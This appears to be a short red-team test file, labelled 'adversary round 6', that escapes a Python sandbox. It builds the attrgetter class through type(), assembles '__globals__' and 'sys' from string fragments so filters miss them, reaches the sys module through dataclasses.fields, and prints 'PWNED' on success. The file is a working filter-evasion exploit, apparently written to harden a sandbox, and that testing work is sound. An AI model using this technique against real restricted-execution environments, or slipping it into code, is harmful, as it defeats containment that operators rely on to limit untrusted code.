# adversary round 6: type(operator.attrgetter('real')) is the attrgetter class: call it with a computed name (unguarded C getattr) -> function __globals__ -> sys
import operator, dataclasses
AG = type(operator.attrgetter('real'))
g = AG('__glo' + 'bals__')(dataclasses.fields)
s = g['s' + 'ys']
print(type(s).__name__, s.__name__)
print(s.version)
if s.__name__ == 'sy' + 's':
    print("PWN" + "ED", s.getrecursionlimit())
